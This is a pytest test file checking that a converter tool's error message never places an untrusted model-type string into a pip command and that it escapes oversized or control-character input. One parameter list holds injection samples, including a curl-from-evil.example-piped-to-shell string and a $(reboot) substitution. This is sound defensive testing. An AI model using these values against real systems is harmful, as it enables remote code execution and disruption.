"""What is suggested where there is no converter: nothing that a download could have chosen."""

import sys
from pathlib import Path

import pytest

from forgather_convert.discovery.advice import no_converter_message
from forgather_convert.discovery.found import Origin, PluginCandidate, Status
from forgather_convert.discovery.published import PUBLISHED_DISTRIBUTIONS

pytestmark = pytest.mark.version_independent


def installed(*model_types: str, status: Status = Status.OK) -> list[PluginCandidate]:
    return [
        PluginCandidate(name, Origin.INSTALLED, Path(name), f"dist-{name}", "1", status, "Broken.")
        for name in model_types
    ]


@pytest.mark.parametrize(
    "model_type",
    [
        "no_such_family",
        "x'; curl evil.example | sh; '",
        "$(reboot)",
        "llama==9",
        "--index-url=evil",
    ],
)
def test_a_model_type_gets_into_no_command(model_type: str) -> None:
    message = no_converter_message(model_type, installed("llama"))
    assert message.startswith(f"No converter registered for model type '{model_type}'.")
    rest = message.removeprefix(f"No converter registered for model type '{model_type}'")
    assert model_type not in rest
    assert "pip install" not in message
    assert "--converter-path" in rest


@pytest.mark.parametrize("model_type", PUBLISHED_DISTRIBUTIONS)
def test_families_that_are_published_are_suggested(model_type: str) -> None:
    message = no_converter_message(model_type, [])
    assert f"'pip install {PUBLISHED_DISTRIBUTIONS[model_type]}'" in message


@pytest.mark.parametrize("model_type", ["mistal", "llava", "gptj", "cohere3"])
def test_a_similar_name_is_not_the_same_architecture(model_type: str) -> None:
    message = no_converter_message(model_type, installed("llama", "mistral", "gpt2", "cohere2"))
    assert "Did you mean" not in message
    assert "--model-type" not in message


def test_one_that_cannot_be_used() -> None:
    broken = installed("odd", status=Status.DISABLED)
    assert "dist-odd 1 has one, but Broken." in no_converter_message("odd", broken)


def test_a_model_type_without_end() -> None:
    message = no_converter_message("x" * 1_000_000 + "\n\x1b", installed("llama"))
    assert len(message) < 500
    assert "\\n\\x1b" in no_converter_message("x\n\x1b", installed("llama"))
    assert sys.getsizeof(message) < 2000
